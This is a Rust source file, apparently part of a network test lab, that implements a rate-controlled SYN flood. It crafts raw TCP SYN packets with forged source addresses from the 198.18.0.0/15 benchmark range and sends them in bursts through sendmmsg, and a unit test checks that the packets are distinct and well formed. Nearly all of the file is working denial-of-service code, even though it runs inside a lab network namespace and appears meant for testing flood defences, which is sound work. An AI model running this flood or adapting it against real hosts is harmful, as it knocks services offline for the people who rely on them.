//! SYNs with forged sources, many a second: raw IP packets, sent in bursts of one system call.

use std::io::IoSlice;
use std::net::{Ipv4Addr, SocketAddr};
use std::time::{Duration, Instant};

use etherparse::PacketBuilder;
use lab::NetNs;
use rustix::net::{MMsgHdr, SendAncillaryBuffer, SendFlags, sendmmsg};
use socket2::{Domain, Protocol, Socket, Type};

/// Sends SYNs from 198.18.0.0/15 (RFC 2544: nobody has a route back) to `target` for `length`, about
/// `rate` a second; what a busy machine missed is made up for. Returns how many were sent.
///
/// # Panics
/// Without root.
#[must_use]
pub fn flood(ns: &NetNs, target: (Ipv4Addr, u16), rate: f64, length: Duration) -> u64 {
    ns.enter(|| {
        let raw = Some(Protocol::from(libc::IPPROTO_RAW));
        let socket = Socket::new(Domain::IPV4, Type::RAW, raw).expect("a raw socket");
        socket.connect(&SocketAddr::from((target.0, 0)).into()).expect("a route");
        let (begin, mut sent) = (Instant::now(), 0_u64);
        let mut packets = [[0; LENGTH]; BURST];
        while begin.elapsed() < length {
            if sent as f64 >= begin.elapsed().as_secs_f64() * rate {
                std::thread::sleep(Duration::from_micros(100));
                continue;
            }
            for (number, packet) in (sent..).zip(&mut packets) {
                *packet = syn(number, target);
            }
            sent += burst(&socket, &packets);
        }
        sent
    })
    .expect("the client's namespace")
}

/// Sends what the queue takes; returns how many that were.
pub(crate) fn burst<const BURST: usize, const LENGTH: usize>(
    socket: &Socket,
    packets: &[[u8; LENGTH]; BURST],
) -> u64 {
    let slices = packets.each_ref().map(|packet| [IoSlice::new(packet)]);
    let mut controls: [SendAncillaryBuffer<'_, '_, '_>; BURST] =
        std::array::from_fn(|_| SendAncillaryBuffer::default());
    let mut messages: Vec<MMsgHdr<'_>> = slices
        .iter()
        .zip(&mut controls)
        .map(|(slice, control)| MMsgHdr::new(slice, control))
        .collect();
    sendmmsg(socket, &mut messages, SendFlags::empty()).map_or(0, |sent| sent as u64)
}

/// The `number`th SYN: another source for each of 131,072, another port for each round of them.
fn syn(number: u64, (vip, port): (Ipv4Addr, u16)) -> [u8; LENGTH] {
    let [.., high, middle, low] = number.to_be_bytes();
    let source = [198, 18 | (high & 1), middle, low];
    let from = 1024 + u16::from(high >> 1);
    let builder = PacketBuilder::ipv4(source, vip.octets(), 64).tcp(from, port, 1, 64_240).syn();
    let mut bytes = [0; LENGTH];
    builder.write(&mut bytes.as_mut_slice(), &[]).expect("40 bytes");
    bytes
}

const BURST: usize = 64;
/// An IPv4 and a TCP header without options.
const LENGTH: usize = 40;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn syns_differ_and_are_well_formed() {
        let target = (Ipv4Addr::new(10, 77, 0, 100), 80);
        let packets: std::collections::BTreeSet<_> =
            (0..300_000).step_by(997).map(|number| syn(number, target)).collect();
        assert_eq!(packets.len(), 301);
        for packet in packets {
            let parsed = etherparse::PacketHeaders::from_ip_slice(&packet).unwrap();
            let Some(etherparse::TransportHeader::Tcp(tcp)) = parsed.transport else { panic!() };
            assert!(tcp.syn && !tcp.ack && tcp.destination_port == 80);
        }
    }
}
